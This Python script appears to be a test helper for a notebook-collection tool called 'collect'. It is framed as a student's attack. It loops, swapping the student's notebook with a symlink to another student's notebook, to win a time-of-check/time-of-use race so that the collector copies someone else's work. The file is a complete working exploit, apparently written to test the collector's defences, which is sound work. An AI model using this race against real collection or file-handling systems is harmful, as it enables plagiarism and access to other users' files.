"""A student's attack on `collect` (run as its own process): swap my notebook for a symbolic link to another
student's notebook and back, over and over, hoping the collector checks my real file and then copies the link.

    python swap_attack.py MY_NOTEBOOK OTHER_NOTEBOOK LINK_SECONDS REAL_SECONDS
"""
import os
import sys
import time


def main() -> None:
    mine, other = sys.argv[1], sys.argv[2]
    link_s, real_s = float(sys.argv[3]), float(sys.argv[4])
    with open(mine, "rb") as f:
        my_bytes = f.read()
    folder = os.path.dirname(mine)
    spare_link, spare_file = os.path.join(folder, ".l"), os.path.join(folder, ".f")
    print("ready", flush=True)
    while True:
        try:
            os.symlink(other, spare_link)
        except FileExistsError:
            pass
        os.replace(spare_link, mine)  # now my notebook is a link to theirs
        time.sleep(link_s)
        with open(spare_file, "wb") as f:
            f.write(my_bytes)
        os.replace(spare_file, mine)  # and now it is my own file again
        time.sleep(real_s)


if __name__ == "__main__":
    main()
